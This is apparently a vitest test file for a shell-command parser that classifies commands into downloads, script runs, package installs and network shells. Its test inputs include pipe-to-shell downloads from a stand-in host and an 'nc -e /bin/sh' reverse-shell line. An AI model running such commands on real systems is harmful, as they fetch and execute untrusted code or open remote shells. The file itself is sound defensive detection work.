import { describe, expect, test } from 'vitest';
import { shellActions } from './actions.ts';

function kinds(text: string): string[] {
  return shellActions(text).actions.map((action) => {
    switch (action.kind) {
      case 'download':
        return `download ${action.urls.join(' ')} -> ${action.into ?? action.output ?? '-'}`;
      case 'run-file':
        return `run ${action.runtime} ${action.path}`;
      case 'inline-code':
        return `inline ${action.language}`;
      case 'run-script':
        return `script ${action.script}`;
      case 'run-package':
        return `package ${action.spec}`;
      case 'install-package':
        return `install ${action.specs.join(' ')}`;
      default:
        return action.kind;
    }
  });
}

describe('shellActions', () => {
  test.each([
    ['node scripts/build.js --fast', ['run node scripts/build.js']],
    ['node -r ./a.js ./b.js', ['run node ./b.js']],
    ['node -e "1+1"', ['inline js']],
    ['node --eval="1+1"', ['inline js']],
    ['bun run index.ts && deno run x.ts', ['run bun index.ts', 'run deno x.ts']],
    ['cross-env A=1 B=2 node x.js', ['run node x.js']],
    ['sudo -E sh -c "node a.js; sh b.sh"', ['run node a.js', 'run sh b.sh']],
    ['cmd /c node a.js', ['run node a.js']],
    ['curl -s http://a.test/x | sudo bash -s --', ['download http://a.test/x -> bash', 'other']],
    ['curl http://a.test/x | base64 -d | sh', ['download http://a.test/x -> sh', 'other', 'other']],
    ['wget -qO- http://a.test/x | python3', ['download http://a.test/x -> python3', 'other']],
    ['curl a.test/x > /tmp/y', ['download a.test/x -> /tmp/y']],
    ['nc -e /bin/sh a.test 4444', ['network-shell']],
    ['npm run build && yarn test && pnpm run x', ['script build', 'script test', 'script x']],
    ['npx --yes thing@1 && bunx other', ['package thing@1', 'package other']],
    ['npm install --no-save left pip', ['install left pip']],
    ['./bin/tool --x', ['run exec ./bin/tool']],
    ['.\\bin\\tool.exe', ['other']],
    ['if [ -f a ]; then node a.js; fi', ['other', 'run node a.js']],
    ['', []],
  ])('%s', (text, expected) => {
    expect(kinds(text)).toEqual(expected);
  });

  test('a nested shell counts its offset in the outer text', () => {
    const [action] = shellActions('echo 1 && bash -c "node a.js"').actions.slice(1);
    expect(action).toMatchObject({ kind: 'run-file', offset: 10, layers: ['bash'] });
  });

  test('endless nesting and huge texts end', () => {
    expect(shellActions('$('.repeat(50_000)).actions.length).toBeLessThan(1000);
    expect(shellActions('a'.repeat(300_000))).toEqual({ actions: [], complete: false });
  });
});
